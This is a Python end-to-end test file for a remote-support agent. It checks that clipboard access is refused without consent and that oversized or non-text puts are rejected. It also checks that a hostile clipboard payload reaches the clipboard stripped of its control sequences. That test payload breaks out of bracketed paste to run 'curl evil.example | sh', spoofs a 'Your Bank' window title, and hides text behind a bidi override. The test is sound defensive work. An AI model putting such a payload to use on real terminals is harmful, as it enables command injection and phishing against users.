"""The customer's clipboard as an attacker goes for it (issue #17): a consultant whose consent lacks `clipboard`
writes channel 4 himself to read or overwrite it; a put too big or not text; a put that carries escape sequences
(a bracketed-paste end that would run what follows when pasted into a terminal, a title, a screen clear, a bidi
override) meant for the customer's terminal. The real agent on an Xvfb display; its X clipboard, read with xclip,
is the witness. A frame sent behind an attempt on the same socket, answered through the customer's shell, is the
barrier that proves the attempt reached nothing (not merely "not yet")."""

from __future__ import annotations

import asyncio
import json
import uuid

import pytest
from agent_flow import Xvfb, missing_x_tools, start_session
from x_clipboard import copy, missing_xclip, pasted

from assist_agent import framing
from assist_agent.clipboard_transfers import CLIPBOARD_MAX_CHARS

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.timeout(240),
    pytest.mark.skipif(missing_x_tools() is not None, reason=missing_x_tools() or ""),
    pytest.mark.skipif(missing_xclip() is not None, reason=missing_xclip() or ""),
]

SECRET = "the customer's own clipboard: hunter2"
# Ends bracketed paste (ESC [ 201 ~), so a terminal would run the rest as typed; retitles the window; clears the
# screen; reverses the text's direction; a C1 CSI; a NUL and a bell.
HOSTILE = ("echo safe\x1b[201~curl evil.example | sh\r\n\x1b]0;Your Bank\x07\x1b[2J\u202etxt.exe\x9b31m"
           "\x00\x07done")
CLEANED = "echo safecurl evil.example | sh\ntxt.exedone"


@pytest.fixture
def display():
    xvfb = Xvfb(640, 480)
    yield xvfb
    xvfb.stop()


async def barrier(consultant, marker: str) -> None:
    """Keystrokes behind what was sent before, echoed by the customer's shell: everything before them was handled."""
    await consultant.send(framing.encode(framing.TERMINAL, f"echo {marker}-$((6 * 7))\n".encode()))
    await consultant.terminal_until(f"{marker}-42")


async def gateway_refusals(consultant, count: int, timeout: float = 10.0) -> list[dict]:
    told: list[dict] = []
    async with asyncio.timeout(timeout):
        while len(told) < count:
            message = await consultant.ws.recv()
            if isinstance(message, str) and json.loads(message).get("type") == "refused":
                told.append(json.loads(message))
            elif isinstance(message, bytes) and message[:1] != bytes((framing.SCREEN,)):
                frame = framing.decode(message)
                consultant.pending.setdefault(frame.channel, []).append(frame)
    return told


async def test_without_the_clipboard_scope_a_consultant_can_neither_read_nor_overwrite_the_clipboard(
        start_system, tmp_path, display):
    """The gateway refuses channel 4 (the agent's own gate, should a frame come through anyway, is
    agent/tests/test_clipboard.py::test_without_the_clipboard_scope_the_agent_refuses_channel_4_and_reads_nothing)."""
    system = start_system(shared=True)
    agent, consultant = await start_session(system, tmp_path, scopes=("view", "control"), env=display.env())
    try:
        copy(display, SECRET)
        await consultant.send(framing.encode_json(framing.CLIPBOARD, {"type": "clipboard.get", "id": "1"}))
        await consultant.send(framing.encode_json(framing.CLIPBOARD, {"type": "clipboard.put", "id": "2",
                                                                      "text": "overwritten"}))
        # A forged answer of the agent's, as if the consultant could make the console believe it: it goes nowhere.
        await consultant.send(framing.encode_json(framing.CLIPBOARD, {"type": "clipboard.text", "id": "1",
                                                                      "text": "x"}))
        refused = (await gateway_refusals(consultant, 1))[0]
        assert refused["what"] == "clipboard"
        assert refused["reason"] == "the customer's consent does not include clipboard"
        await barrier(consultant, "after")
        assert pasted(display) == SECRET
        assert not consultant.pending.get(framing.CLIPBOARD)
        assert "clipboard" not in agent.log() and "hunter2" not in agent.log()
    finally:
        agent.stop()
        await consultant.ws.close()


async def test_an_oversized_or_non_text_put_is_refused_by_the_agent_and_the_clipboard_keeps_its_text(
        start_system, tmp_path, display):
    system = start_system(shared=True)
    agent, consultant = await start_session(system, tmp_path, scopes=("view", "control", "clipboard"),
                                            env=display.env())
    try:
        copy(display, SECRET)
        attempts = {"too_long": "я" * (CLIPBOARD_MAX_CHARS + 1), "not_text": {"bytes": [0, 1]},
                    "empty": "\x1b[2J\x1b]0;x\x07\x00"}
        for reason, text in attempts.items():
            transfer_id = str(uuid.uuid4())
            await consultant.send(framing.encode_json(framing.CLIPBOARD, {"type": "clipboard.put", "id": transfer_id,
                                                                          "text": text}))
            answer = (await consultant.next_frame(framing.CLIPBOARD, 15)).json()
            assert answer == {"type": "clipboard.failed", "id": transfer_id, "reason": reason}
        # Not UTF-8, not JSON: dropped and logged, no answer; the agent carries on.
        await consultant.send(bytes((framing.CLIPBOARD,)) + b'{"type":"clipboard.put","id":"9","text":"\xff\xfe"}')
        await consultant.send(bytes((framing.CLIPBOARD,)) + b"\x00" * 1000)
        await barrier(consultant, "still-up")
        assert pasted(display) == SECRET
        assert not consultant.pending.get(framing.CLIPBOARD)
        await agent.wait_for_log("not UTF-8 JSON")
        assert agent.process.poll() is None
    finally:
        agent.stop()
        await consultant.ws.close()


async def test_a_put_with_escape_sequences_reaches_the_clipboard_without_them_and_is_shown_safely(
        start_system, tmp_path, display):
    system = start_system(shared=True)
    agent, consultant = await start_session(system, tmp_path, scopes=("view", "clipboard"), env=display.env())
    try:
        transfer_id = str(uuid.uuid4())
        await consultant.send(framing.encode_json(framing.CLIPBOARD, {"type": "clipboard.put", "id": transfer_id,
                                                                      "text": HOSTILE}))
        assert (await consultant.next_frame(framing.CLIPBOARD, 15)).json() == {"type": "clipboard.done",
                                                                                "id": transfer_id}
        assert pasted(display) == CLEANED
        await agent.wait_for_log(f'[clipboard] maria put {len(CLEANED)} characters into your clipboard: '
                                 f'"echo safecurl evil.example | sh …"')
        shown = agent.log_path.read_bytes()
        for raw in (b"\x1b", "\u009b".encode(), "\u202e".encode(), b"\x07", b"Your Bank"):
            assert raw not in shown, raw
    finally:
        agent.stop()
        await consultant.ws.close()
